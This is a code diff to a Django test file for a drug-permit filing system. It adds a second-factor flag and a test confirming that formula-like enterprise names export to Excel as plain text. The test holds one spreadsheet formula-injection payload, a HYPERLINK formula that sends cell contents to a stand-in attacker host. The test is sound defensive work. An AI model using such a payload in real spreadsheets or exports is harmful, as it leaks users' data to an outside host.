@@ -28,7 +28,7 @@ def test_application_export_selected_or_all_with_types(chain, owner, authority):
     first = decide_all(owner, chain, authority)
     second = complete_draft(owner, authority)
     workflow.add_line(filing=second, actor=owner, values=line(quantity="250.5"))
-    workflow.submit(filing=second, actor=owner)
+    workflow.submit(filing=second, actor=owner, second_factor_verified=True)
     complete_draft(owner, authority)  # a draft: never exported to the authority
     client = client_for(chain[1])
 
@@ -146,3 +146,16 @@ def test_verification_page_current_void_and_unknown(chain, owner, authority, cli
 
     unknown = client.get("/verify/ZZZZZZZZZZZZ/")
     assert unknown.status_code == 404 and "未找到" in unknown.content.decode()
+
+
+@pytest.mark.django_db
+def test_text_that_looks_like_a_formula_is_exported_as_text(chain, owner, authority):
+    """What users typed (here the enterprise's name) never runs as a formula in Excel."""
+    application = complete_draft(owner, authority)
+    workflow.submit(filing=application, actor=owner, second_factor_verified=True)
+    typed = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    enterprise = application.enterprise
+    type(enterprise).objects.filter(pk=enterprise.pk).update(name_zh=typed)
+    sheet = workbook(client_for(chain[1]).post("/admin/drug-permit/query/", {}))
+    cell = sheet.cell(row=2, column=4)
+    assert cell.value == typed and cell.data_type == "s"
